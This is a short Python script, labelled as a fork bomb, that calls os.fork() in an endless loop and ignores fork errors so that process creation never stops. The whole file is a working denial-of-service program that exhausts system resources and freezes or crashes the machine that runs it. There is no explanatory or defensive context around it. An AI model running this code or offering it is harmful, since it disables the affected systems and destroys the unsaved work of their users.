# A fork bomb.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
